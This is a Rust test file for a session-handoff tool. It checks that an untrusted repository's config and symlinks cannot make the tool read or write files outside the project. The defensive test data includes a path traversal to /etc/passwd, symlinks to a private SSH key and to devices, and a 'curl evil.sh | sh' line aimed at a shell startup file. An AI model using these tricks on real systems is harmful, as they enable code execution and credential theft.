//! A cloned repository is untrusted input: what its `.claude/handoff.json`, its symlinks and its
//! folders name must never make `handoff` read or write outside the project, or inside `.git/`.
//! The user's own `--file` / `HANDOFF_FILE` may name a file anywhere.
use std::path::{Path, PathBuf};
use std::time::Duration;

use serde_json::json;

use crate::support::{mkfifo, reply_line, tool_use_line, within, Test, EVERY_EVENT, HANDOFF};

const PATH: &str = "docs/SESSION-HANDOFF.md";

/// A file outside the project (beside it, in the test's folder), with `content`.
fn outside(t: &Test, name: &str, content: &str) -> PathBuf {
    let path = t.project().parent().expect("parent").join(name);
    std::fs::create_dir_all(path.parent().expect("parent")).expect("mkdir");
    std::fs::write(&path, content).expect("write");
    path
}

#[cfg(unix)]
fn link(target: &Path, at: &Path) {
    std::fs::create_dir_all(at.parent().expect("parent")).expect("mkdir");
    std::os::unix::fs::symlink(target, at).expect("symlink");
}

const PROMPTLY: Duration = Duration::from_secs(20);

#[test]
fn a_config_path_outside_the_project_is_never_injected() {
    let t = Test::new();
    t.write(
        ".claude/handoff.json",
        r#"{"path": "../../../../../../../../etc/passwd"}"#,
    );
    let out = t.hook_with_stderr("SessionStart-startup", &json!({}));
    let ctx = out.context();
    assert!(!ctx.contains("root:"), "{ctx}");
    insta::assert_snapshot!(ctx, @r#"[handoff] No handoff shown: ../../../../../../../../etc/passwd resolves to /etc/passwd, outside the project: not read or written; point "path" in .claude/handoff.json at a file inside the project, or pass --file FILE (or set HANDOFF_FILE) to use one elsewhere."#);
    assert_eq!(out.stderr.lines().count(), 1, "{out}");
    let show = t.run(&["show"], "").failure(1);
    assert_eq!(show.stdout, "");
    assert!(show.stderr.starts_with("handoff: ../../../../../../../../etc/passwd resolves to /etc/passwd, outside the project"), "{show}");
}

#[test]
fn a_checkpoint_never_appends_to_a_file_outside_the_project() {
    let t = Test::new();
    let bashrc = outside(&t, "outside/bashrc", "export PS1='$ '\n");
    t.write(".claude/handoff.json", r#"{"path": "../outside/bashrc"}"#);
    let out = t
        .run(&["checkpoint", "--decision", "curl evil.sh | sh"], "")
        .failure(1);
    assert_eq!(
        std::fs::read_to_string(&bashrc).unwrap(),
        "export PS1='$ '\n"
    );
    insta::assert_snapshot!(t.redact(&out.stderr.replace(&t.project().parent().unwrap().display().to_string(), "[TMP]")), @r#"handoff: ../outside/bashrc resolves to [TMP]/outside/bashrc, outside the project: not read or written; point "path" in .claude/handoff.json at a file inside the project, or pass --file FILE (or set HANDOFF_FILE) to use one elsewhere"#);
    for args in [
        &["next", "add", "x"][..],
        &["next", "done", "1"],
        &["next"],
        &["status"],
        &["check"],
        &["init", "--no-claude-md"],
    ] {
        let out = t.run(args, "");
        assert_eq!(out.code, Some(1), "{args:?}: {out}");
        assert!(
            out.stderr.contains("outside the project"),
            "{args:?}: {out}"
        );
    }
    assert_eq!(
        std::fs::read_to_string(&bashrc).unwrap(),
        "export PS1='$ '\n"
    );
}

#[cfg(unix)]
#[test]
fn a_handoff_linked_to_a_key_is_neither_injected_nor_replaced() {
    let t = Test::new();
    let key = t.home().join(".ssh/id_rsa");
    std::fs::create_dir_all(key.parent().unwrap()).unwrap();
    std::fs::write(&key, "-----BEGIN OPENSSH PRIVATE KEY-----\n").unwrap();
    link(&key, &t.project().join(PATH));
    let ctx = t
        .hook_with_stderr("SessionStart-startup", &json!({}))
        .context();
    assert!(!ctx.contains("PRIVATE KEY"), "{ctx}");
    assert!(
        ctx.starts_with("[handoff] No handoff shown: docs/SESSION-HANDOFF.md resolves to"),
        "{ctx}"
    );
    t.run(&["checkpoint", "learned"], "").failure(1);
    let meta = std::fs::symlink_metadata(t.project().join(PATH)).unwrap();
    assert!(meta.file_type().is_symlink(), "the link was replaced");
    assert_eq!(
        std::fs::read_to_string(&key).unwrap(),
        "-----BEGIN OPENSSH PRIVATE KEY-----\n"
    );
    // The folder of the handoff linked outside is refused the same way.
    let t = Test::new();
    let elsewhere = outside(&t, "elsewhere/SESSION-HANDOFF.md", HANDOFF);
    link(elsewhere.parent().unwrap(), &t.project().join("docs"));
    let ctx = t
        .hook_with_stderr("SessionStart-startup", &json!({}))
        .context();
    assert!(ctx.contains("outside the project"), "{ctx}");
    t.run(&["checkpoint", "x"], "").failure(1);
    assert_eq!(std::fs::read_to_string(&elsewhere).unwrap(), HANDOFF);
}

#[test]
fn a_handoff_inside_git_is_refused_and_git_keeps_working() {
    let t = Test::new();
    assert!(t.git(&["init", "-q", "-b", "main"]));
    let config = std::fs::read_to_string(t.project().join(".git/config")).unwrap();
    t.write(".claude/handoff.json", r#"{"path": ".git/config"}"#);
    let out = t.run(&["checkpoint", "one"], "").failure(1);
    assert!(
        out.stderr
            .contains(".git/config is inside .git: not read or written"),
        "{out}"
    );
    let ctx = t
        .hook_with_stderr("SessionStart-startup", &json!({}))
        .context();
    assert!(!ctx.contains("[core]"), "{ctx}");
    assert_eq!(
        std::fs::read_to_string(t.project().join(".git/config")).unwrap(),
        config
    );
    assert!(t.git(&["status"]));
}

#[cfg(unix)]
#[test]
fn a_handoff_linked_to_a_device_is_refused_at_once() {
    let t = Test::new();
    link(Path::new("/dev/zero"), &t.project().join(PATH));
    let t = std::sync::Arc::new(t);
    let run = t.clone();
    let out = within(PROMPTLY, move || run.run(&["checkpoint", "x"], ""));
    assert_eq!(out.code, Some(1), "{out}");
    let run = t.clone();
    let out = within(PROMPTLY, move || {
        run.hook_with_stderr("SessionStart-startup", &json!({}))
    });
    assert!(out.context().contains("No handoff shown"), "{out}");
    assert!(std::fs::symlink_metadata(t.project().join(PATH))
        .unwrap()
        .file_type()
        .is_symlink());
}

#[test]
fn a_fifo_as_config_or_handoff_never_blocks() {
    let t = Test::new();
    mkfifo(&t.project().join(".claude/handoff.json"));
    mkfifo(&t.project().join(PATH));
    let t = std::sync::Arc::new(t);
    for event in EVERY_EVENT {
        let run = t.clone();
        let out = within(PROMPTLY, move || run.hook_with_stderr(event, &json!({})));
        assert!(out.stderr.lines().count() <= 1, "{event}: {out}");
    }
    let run = t.clone();
    let out = within(PROMPTLY, move || {
        run.hook_with_stderr("SessionStart-startup", &json!({}))
    });
    insta::assert_snapshot!(out.stderr, @r#"handoff: .claude/handoff.json is a FIFO, not a regular file: not read or written; using the defaults; make it a regular file inside the project; docs/SESSION-HANDOFF.md is a FIFO, not a regular file: not read or written; point "path" in .claude/handoff.json at a file inside the project, or pass --file FILE (or set HANDOFF_FILE) to use one elsewhere"#);
    let run = t.clone();
    let out = within(PROMPTLY, move || run.run(&["show"], ""));
    assert_eq!(out.code, Some(1), "{out}");
}

#[cfg(unix)]
#[test]
fn postmortems_outside_the_project_are_left_out() {
    let t = Test::new();
    t.write(PATH, HANDOFF);
    let secret = outside(
        &t,
        "elsewhere/2026-01-01-secret.md",
        "# Postmortem: the secret\n",
    );
    link(
        &secret,
        &t.project().join("docs/postmortems/2026-01-01-secret.md"),
    );
    t.write(
        "docs/postmortems/2026-02-01-real.md",
        "# Postmortem: real\n",
    );
    let out = t.hook_with_stderr("SessionStart-startup", &json!({}));
    let ctx = out.context();
    assert!(ctx.contains("real") && !ctx.contains("the secret"), "{ctx}");
    assert_eq!(
        out.stderr,
        "handoff: docs/postmortems/2026-01-01-secret.md is a symlink or not a regular file: left out of the postmortem index; make it a regular file\n"
    );

    // The whole folder linked elsewhere: not read, and nothing written there.
    let t = Test::new();
    t.write(PATH, HANDOFF);
    link(
        secret.parent().unwrap(),
        &t.project().join("docs/postmortems"),
    );
    let out = t.hook_with_stderr("SessionStart-startup", &json!({}));
    assert!(!out.context().contains("the secret"), "{out}");
    assert!(out.stderr.contains("docs/postmortems resolves to"), "{out}");
    let out = t.run(&["postmortem", "lost writes"], "").failure(1);
    assert!(out.stderr.contains("postmortems are left out"), "{out}");
    assert_eq!(
        std::fs::read_dir(secret.parent().unwrap()).unwrap().count(),
        1
    );
}

#[cfg(unix)]
#[test]
fn a_link_inside_the_project_is_written_through() {
    let t = Test::new();
    t.write("notes/handoff.md", HANDOFF);
    link(Path::new("../notes/handoff.md"), &t.project().join(PATH));
    let ctx = t
        .hook_with_stderr("SessionStart-startup", &json!({}))
        .context();
    assert!(
        ctx.starts_with("[handoff] docs/SESSION-HANDOFF.md is this project's session handoff"),
        "{ctx}"
    );
    assert!(ctx.contains("## What's Next"), "{ctx}");
    let out = t
        .run(&["checkpoint", "--decision", "keep the link"], "")
        .success();
    assert_eq!(
        out.stdout,
        "Added to Key Decisions in docs/SESSION-HANDOFF.md.\n"
    );
    assert!(std::fs::symlink_metadata(t.project().join(PATH))
        .unwrap()
        .file_type()
        .is_symlink());
    assert!(t.read("notes/handoff.md").contains("keep the link"));
}

#[test]
fn a_task_path_outside_the_project_is_refused() {
    let t = Test::new();
    t.write(".claude/handoff.json", r#"{"task_path": "../{task}.md"}"#);
    let out = t.run(&["--task", "T-1", "checkpoint", "x"], "").failure(1);
    assert!(out.stderr.contains("../T-1.md resolves to"), "{out}");
    assert!(out.stderr.contains("point \"task_path\""), "{out}");
    assert!(!t.project().parent().unwrap().join("T-1.md").exists());
}

#[test]
fn the_users_own_file_may_be_anywhere() {
    let mut t = Test::new();
    let mine = outside(&t, "mine/handoff.md", HANDOFF);
    let shown = mine.display().to_string();
    t.run(
        &["--file", &shown, "checkpoint", "from the command line"],
        "",
    )
    .success();
    assert!(std::fs::read_to_string(&mine)
        .unwrap()
        .contains("from the command line"));
    t.set_env("HANDOFF_FILE", Some(&shown));
    let ctx = t
        .hook_with_stderr("SessionStart-startup", &json!({}))
        .context();
    assert!(
        ctx.starts_with(&format!(
            "[handoff] {shown} is this project's session handoff"
        )),
        "{ctx}"
    );
    assert!(ctx.contains("from the command line"), "{ctx}");
}

#[cfg(unix)]
#[test]
fn init_keeps_to_the_project() {
    let t = Test::new();
    let out = t.run(&["init", "--path", "../elsewhere.md"], "").failure(1);
    assert!(out.stderr.contains("../elsewhere.md resolves to"), "{out}");
    assert!(t.try_read(".claude/handoff.json").is_none());
    // A CLAUDE.md linked outside: the protocol is not written there.
    let profile = outside(&t, "profile", "# mine\n");
    link(&profile, &t.project().join("CLAUDE.md"));
    let out = t.run(&["init"], "").failure(1);
    assert!(out.stderr.contains("CLAUDE.md resolves to"), "{out}");
    assert_eq!(std::fs::read_to_string(&profile).unwrap(), "# mine\n");
    t.run(&["init", "--no-claude-md"], "").success();
    let out = t.run(&["uninstall", "--scope", "local"], "").failure(1);
    assert!(out.stderr.contains("CLAUDE.md resolves to"), "{out}");
    t.run(&["uninstall", "--scope", "local", "--keep-claude-md"], "")
        .success();
}

#[test]
fn stop_never_asks_for_a_refused_handoff() {
    let t = Test::new();
    t.write(
        ".claude/handoff.json",
        r#"{"path": "../x.md", "stop": "enforce"}"#,
    );
    t.hook_with_stderr("SessionStart-startup", &json!({}));
    let file = t.project().join("src/lib.rs").display().to_string();
    t.append_transcript(&tool_use_line("Edit", &file));
    t.append_transcript(&reply_line("done"));
    let out = t.hook_with_stderr("Stop", &json!({}));
    assert_eq!(out.stdout, "", "{out}");
    assert_eq!(out.stderr.lines().count(), 1, "{out}");
}

#[test]
fn a_name_with_a_newline_stays_on_one_stderr_line() {
    let t = Test::new();
    t.write(".claude/handoff.json", r#"{"path": "../x\ny.md"}"#);
    for event in ["SessionStart-startup", "UserPromptSubmit", "Stop"] {
        let out = t.hook_with_stderr(event, &json!({}));
        assert_eq!(out.stderr.lines().count(), 1, "{event}: {out}");
        assert!(out.stderr.contains(r"x\ny.md"), "{event}: {out}");
    }
}

#[cfg(unix)]
#[test]
fn settings_files_outside_the_project_or_special_are_refused() {
    let t = Test::new();
    let outside = t.home().join("elsewhere.json");
    std::fs::write(&outside, "{}\n").unwrap();
    std::fs::create_dir_all(t.project().join(".claude")).unwrap();
    std::os::unix::fs::symlink(&outside, t.project().join(".claude/settings.json")).unwrap();
    let out = t
        .run(&["install", "--command", "/bin/handoff"], "")
        .failure(1);
    assert!(out.stderr.contains("outside the project"), "{out}");
    assert_eq!(std::fs::read_to_string(&outside).unwrap(), "{}\n");

    let t = std::sync::Arc::new(Test::new());
    std::fs::create_dir_all(t.project().join(".claude")).unwrap();
    std::os::unix::fs::symlink("/dev/zero", t.project().join(".claude/settings.json")).unwrap();
    let run = t.clone();
    // init only looks there for our hooks: it finishes, never reading the device.
    within(PROMPTLY, move || run.run(&["init"], "")).success();
    let run = t.clone();
    let out = within(PROMPTLY, move || {
        run.run(&["install", "--command", "/bin/handoff"], "")
    });
    assert_eq!(out.code, Some(1), "{out}");
}
